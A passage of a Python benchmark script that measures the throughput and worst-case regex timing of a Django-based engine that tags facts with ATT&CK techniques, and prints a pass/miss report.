    worst = _summary(time_evaluations(index, top["relation"], value, runs))
    return {
        "worst": {"value": top["value"], "relation": top["relation"], "rules": top["rules"], **worst},
        "screened": screened,
    }


def run_adversarial(args: argparse.Namespace) -> dict:
    from ttprules import attack
    from ttprules.compiler import RuleInvalid, compile_text
    from ttprules.engine import ActiveRule, RuleIndex

    index, rule_count = pack_index()
    cases = adversarial_values(index)
    print(f"adversarial: {len(cases)} values x relations against the pack ...", flush=True)
    pack = worst_case(index, cases, args.screen_runs, args.worst_runs)

    # The pack plus 1,000 generated rules, all on observed:command.
    extra = compile_all(generated_rule_texts(args.rules, seed=5, relation="observed:command"))
    crowded, _ = pack_index(extra)
    command_cases = [c for c in cases if c[1] == "observed:command"]
    print(f"adversarial: pack + {len(extra)} rules on observed:command ...", flush=True)
    many = worst_case(crowded, command_cases, max(3, args.screen_runs // 4), max(30, args.worst_runs // 3))

    # Pathological patterns as rules: rejected at validation, or timed on their worst inputs.
    rng = random.Random(6)
    inputs = {
        "a*64K+!": "a" * (64 * 1024 - 1) + "!",
        "random ab 64K": "".join(rng.choice("ab") for _ in range(64 * 1024)),
        "random xy 64K": "".join(rng.choice("xy") for _ in range(64 * 1024)),
        "random xyzab 64K": "".join(rng.choice("xyzab ") for _ in range(64 * 1024)),
        "x*64K": "x" * 64 * 1024,
    }
    patterns = []
    techniques = [t for t in attack.catalogue().techniques() if not t.revoked and not t.deprecated and t.tactics]
    for k, pattern in enumerate(PATHOLOGICAL):
        rule_id = f"P{k + 1:04d}"
        text = (
            f'rule_id: {rule_id}\nrule_version: 1\nname: pathological_{k}\napplies_to: ["observed:command"]\n'
            f"match:\n  field: value.v\n  regex: {_yaml_str(pattern)}\nemits:\n{_emits(rng, techniques)}\n"
        )
        try:
            rule = compile_text(text, f"{rule_id}.yaml")
        except RuleInvalid as exc:
            patterns.append({"pattern": pattern, "accepted": False, "error": str(exc)[:160]})
            continue
        one = RuleIndex([ActiveRule(rule, "enabled", None)], attack.catalogue().version)
        worst_name, worst_ms, per_input = "", 0.0, {}
        for name, value in inputs.items():
            times = time_evaluations(one, "observed:command", value, 5)
            per_input[name] = round(max(times), 2)
            if max(times) > worst_ms:
                worst_name, worst_ms = name, max(times)
        patterns.append(
            {
                "pattern": pattern,
                "accepted": True,
                "worst_input": worst_name,
                "max_ms": round(worst_ms, 2),
                "per_input_max_ms": per_input,
            }
        )
    return {
        "part": "adversarial",
        "rules": rule_count,
        "worst_ms": pack["worst"]["max_ms"],
        "pack": pack,
        "pack_plus_generated": {"rules_on_relation": len(crowded.rules_for("observed:command")), **many},
        "patterns": patterns,
    }


# --- end to end --------------------------------------------------------------------------------


def run_e2e(args: argparse.Namespace, corpus: dict) -> dict:
    from django.conf import settings
    from django.core.management import call_command

    from stigmem import logtail
    from stigmem.fact_input import parse_fact_body
    from stigmem.facts import assert_facts
    from stigmem.models import ConsumerCursor, Fact
    from ttprules.models import Tag
    from ttprules.store import sync_directory

    call_command("migrate", verbosity=0, interactive=False)
    report = sync_directory(RULES_DIR)
    # The writes below would kick the log consumers through django-q2 (a task row per 0.2 s, in a
    # thread): here the ttp consumer is drained by hand, in this thread, and nothing else runs.
    logtail._enqueue = lambda: None
    tenant = settings.STIGMEM_DEFAULT_TENANT
    specs = fact_specs(args.e2e_facts, PACK_RELATIONS | OTHER_RELATIONS, corpus, seed=7, positive=0.06, negative=0.10)
    # Unique content: every fact is new (no CID dedup).
    for i, spec in enumerate(specs):
        spec["entity"] = f"{spec['entity']}/{i}"
    print(f"e2e: writing {len(specs):,} facts (assert_facts, chunks of 1000) ...", flush=True)
    write: dict[str, Any] = {}
    with timed(write):
        for start in range(0, len(specs), 1000):
            assert_facts(tenant, [parse_fact_body(s) for s in specs[start : start + 1000]])
    stored = Fact.objects.count()
    registered = next(c for c in logtail.consumers() if c.name == "ttp" and c.log == ConsumerCursor.Log.FACTS)
    # The same consumer, its two steps timed: evaluation (before the transaction), writing (inside).
    spent = {"evaluate": 0.0, "write": 0.0}

    def timed_step(step: str, function):
        def run(argument):
            started = time.perf_counter()
            try:
                return function(argument)
            finally:
                spent[step] += time.perf_counter() - started

        return run

    consumer = dataclasses.replace(
        registered,
        prepare=timed_step("evaluate", registered.prepare),
        handler=timed_step("write", registered.handler),
    )
    print("e2e: draining the ttp consumer ...", flush=True)
    drain: dict[str, Any] = {}
    rows = batches = 0
    with timed(drain):
        while True:
            handled = logtail.run_batch(consumer)
            if not handled:
                break
            rows += handled
            batches += 1
    tags = Tag.objects.count()
    tagged = Tag.objects.values("fact_id").distinct().count()
    return {
        "part": "e2e",
        "database": "sqlite (fresh, migrated)",
        "sync": report.summary(),
        "facts": len(specs),
        "stored": stored,
        "write_s": round(write["wall_s"], 2),
        "write_facts_per_s": round(len(specs) / write["wall_s"]),
        "drain_s": round(drain["wall_s"], 2),
        "drain_cpu_s": round(drain["cpu_s"], 2),
        "drain_other_cpu_s": round(drain["other_cpu_s"], 1),
        "evaluate_s": round(spent["evaluate"], 2),
        "write_tags_s": round(spent["write"], 2),
        "read_and_cursor_s": round(drain["wall_s"] - spent["evaluate"] - spent["write"], 2),
        "rows_read": rows,
        "batches": batches,
        "tags": tags,
        "tagged_facts": tagged,
        "tagged_share": round(tagged / len(specs), 4),
        "facts_per_s": round(len(specs) / drain["wall_s"]),
        "facts_per_cpu_s": round(len(specs) / drain["cpu_s"]),
    }


# --- report ------------------------------------------------------------------------------------


def machine() -> dict:
    cpuinfo = Path("/proc/cpuinfo").read_text(errors="replace")
    model = re.search(r"^model name\s*:\s*(.+)$", cpuinfo, re.M)
    return {
        "cores": os.cpu_count(),
        "cpu_model": model.group(1).strip() if model else platform.processor(),
        "python": platform.python_version(),
        "kernel": platform.release(),
    }


def _verdict(part: str, value: float | None) -> str:
    if part not in TARGETS or value is None:
        return "-"
    _, op, target = TARGETS[part]
    ok = value >= target if op == ">=" else value <= target
    return "PASS" if ok else "MISS"


def table(report: dict) -> str:
    m = report["machine"]
    lines = [
        f"TTP rules  ({m['cores']} cores, {m['cpu_model']}, Python {m['python']}; one process, one thread)",
        f"{'measurement':<70}{'result':>26}  {'target':<14}verdict",
        "-" * 120,
    ]
    parts = report["parts"]

    def row(label: str, result: str, target: str = "", verdict: str = "-") -> None:
        lines.append(f"{label[:69]:<70}{result:>26}  {target:<14}{verdict}")

    if "pack" in parts:
        p = parts["pack"]
        row(
            f"pack ({p['rules']} rules), {p['facts']:,} facts (all relations)",
            f"{p['facts_per_s']:,} facts/s",
            ">= 20,000",
            _verdict("pack", p["facts_per_s"]),
        )
        a = p["applicable_only"]
        row(
            f"  only the {a['facts']:,} facts the pack applies to",
            f"{a['facts_per_s']:,} facts/s",
            ">= 20,000",
            _verdict("pack", a["facts_per_s"]),
        )
        row(
            f"  findings {p['findings']:,} on {p['matched_facts']:,} facts; {p['rules_fired']} rules fired",
            f"{p['us_per_fact']} us/fact",
        )
    if "generated" in parts:
        g = parts["generated"]
        row(
            f"generated ({g['rules']:,} rules, ~{g['rules'] // len(GENERATED_RELATIONS)}/relation), "
            f"{g['facts']:,} facts",
            f"{g['facts_per_s']:,} facts/s",
            ">= 2,000",
            _verdict("generated", g["facts_per_s"]),
        )
        row(
            f"  findings {g['findings']:,} on {g['matched_facts']:,} facts; {g['rules_fired']} rules fired; "
            f"compile {g['compile_s']} s",
            f"{g['us_per_fact']} us/fact",
        )
    if "adversarial" in parts:
        a = parts["adversarial"]
        w = a["pack"]["worst"]
        row(
            f"adversarial, pack: worst '{w['value']}' on {w['relation'].split(':')[1]}",
            f"max {w['max_ms']} / p99 {w['p99_ms']} ms",
            "<= 50 ms",
            _verdict("adversarial", w["max_ms"]),
        )
        many = a["pack_plus_generated"]
        mw = many["worst"]
        row(
            f"  pack + 1,000 rules ({many['rules_on_relation']} on command): '{mw['value']}'",
            f"max {mw['max_ms']} / p99 {mw['p99_ms']} ms",
            "<= 50 ms",
            _verdict("adversarial", mw["max_ms"]),
        )
        for pat in a["patterns"]:
            if pat["accepted"]:
                row(
                    f"  rule regex {pat['pattern']!r} on {pat['worst_input']}",
                    f"max {pat['max_ms']} ms",
                    "<= 50 ms",
                    _verdict("adversarial", pat["max_ms"]),
                )
            else:
                row(f"  rule regex {pat['pattern']!r}", "rejected", "", "-")
    if "e2e" in parts:
        e = parts["e2e"]
        row(
            f"e2e: {e['facts']:,} facts, {e['tagged_share']:.1%} tagged ({e['tags']:,} tags), drain",
            f"{e['facts_per_s']:,} facts/s",
            "(report)",
        )
        row(f"  drain {e['drain_s']} s wall, {e['drain_cpu_s']} s CPU", f"{e['facts_per_cpu_s']:,} facts/CPU-s")
        row(
            f"  evaluate_batch {e['evaluate_s']} s, write_tags {e['write_tags_s']} s, "
            f"read + cursor {e['read_and_cursor_s']} s",
            "",
        )
        row(f"  (writing the facts first: assert_facts {e['write_facts_per_s']:,} facts/s)", "")
    others = [f"{name} {r:.1f}" for name, r in report.get("other_cpu_s", {}).items()]
    if others:
        lines.append("CPU-s used by other processes meanwhile: " + ", ".join(others))
    return "\n".join(lines)


def run_subprocess(args: argparse.Namespace) -> dict:
    """For ``bench/run.py --only ttp``: this script in a child process (its own Django, its own temporary
    data directory); its output is passed through, its report returned."""
    import subprocess

    command = [sys.executable, str(BENCH / "ttp.py"), "--json-line", "--quiet-wait", str(args.quiet_wait)]
    command += ["--facts", str(args.ttp_facts), "--e2e-facts", str(args.ttp_e2e_facts)]
    if args.repeat > 1:
        command += ["--repeat", str(args.repeat)]
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "STIGMEM_DB_PATH", "STIGMEM_DATA_DIR")}
    proc = subprocess.Popen(command, cwd=REPO, env=env, stdout=subprocess.PIPE, text=True)
    report = None
    assert proc.stdout is not None
    for line in proc.stdout:
        if line.startswith("TTPJSON "):
            report = json.loads(line.removeprefix("TTPJSON "))
        else:
            print(line, end="", flush=True)
    if proc.wait() != 0 or report is None:
        raise RuntimeError(f"bench/ttp.py failed ({proc.returncode})")
    return report


def _profile_path(args: argparse.Namespace, part: str) -> Path | None:
    if part not in args.profile:
        return None
    RESULTS.mkdir(exist_ok=True)
    return RESULTS / f"{args.stamp}-ttp-profile-{part}.txt"


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", default=",".join(PARTS), help="comma list of: " + ", ".join(PARTS))
    parser.add_argument("--facts", type=int, default=100_000, help="pack: in-memory facts")
    parser.add_argument("--rules", type=int, default=1_000, help="generated rules")
    parser.add_argument("--generated-facts", type=int, default=20_000, help="generated: in-memory facts")
    parser.add_argument("--e2e-facts", type=int, default=20_000, help="e2e: facts written, then drained")
    parser.add_argument("--repeat", type=int, default=3, help="throughput runs per part; the median is reported")
    parser.add_argument("--screen-runs", type=int, default=20, help="adversarial: runs per value when screening")
    parser.add_argument("--worst-runs", type=int, default=300, help="adversarial: runs of the worst value")
    parser.add_argument("--profile", default="", help="comma list of parts to cProfile (pack, generated)")
    parser.add_argument("--quiet-wait", type=float, default=30.0, help="max seconds to wait for a quiet machine")
    parser.add_argument("--json-line", action="store_true", help="print one TTPJSON line (for bench/run.py)")
    parser.add_argument("--label", default="")
    args = parser.parse_args(argv)
    args.only = [p.strip() for p in args.only.split(",") if p.strip()]
    args.profile = [p.strip() for p in args.profile.split(",") if p.strip()]
    unknown = set(args.only) - set(PARTS)
    if unknown:
        parser.error(f"unknown part(s): {', '.join(sorted(unknown))}")
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    args.stamp = dt.datetime.now(dt.UTC).strftime("%Y%m%dT%H%M%SZ")
    data_dir = Path(tempfile.mkdtemp(prefix="stigmem-bench-ttp-"))
    report: dict[str, Any] = {
        "started_at": args.stamp,
        "machine": machine(),
        "command": " ".join([".venv/bin/python", "bench/ttp.py", *(argv if argv is not None else sys.argv[1:])]),
        "targets": {k: f"{m} {op} {t}" for k, (m, op, t) in TARGETS.items()},
        "parts": {},
        "other_cpu_s": {},
    }
    try:
        setup_django(data_dir)
        import django

        report["versions"] = {"django": django.get_version(), "re2": _version("google-re2")}
        corpus = load_corpus()
        runners = {
            "pack": lambda: run_pack(args, corpus),
            "generated": lambda: run_generated(args, corpus),
            "adversarial": lambda: run_adversarial(args),
            "e2e": lambda: run_e2e(args, corpus),
        }
        for part in PARTS:
            if part not in args.only:
                continue
            waited = wait_for_quiet(args.quiet_wait)
            if waited > 2:
                print(f"  (waited {waited:.0f} s for the machine to be quiet)", flush=True)
            usage: dict[str, Any] = {}
            with timed(usage):
                report["parts"][part] = runners[part]()
            report["parts"][part]["waited_for_quiet_s"] = waited
            report["parts"][part]["part_wall_s"] = round(usage["wall_s"], 1)
            report["other_cpu_s"][part] = round(usage["other_cpu_s"], 1)
    finally:
        shutil.rmtree(data_dir, ignore_errors=True)
    if args.json_line:
        print("TTPJSON " + json.dumps(report), flush=True)
        return 0
    print()
    print(table(report))
    RESULTS.mkdir(exist_ok=True)
    label = f"-{args.label}" if args.label else ""
    out = RESULTS / f"{args.stamp}-ttp{label}.json"
    out.write_text(json.dumps(report, indent=2))
    print(f"\nresults: {out.relative_to(REPO)}")
    return 0


def _version(dist: str) -> str | None:
    import importlib.metadata

    try:
        return importlib.metadata.version(dist)
    except importlib.metadata.PackageNotFoundError:
        return None


if __name__ == "__main__":
    sys.exit(main())
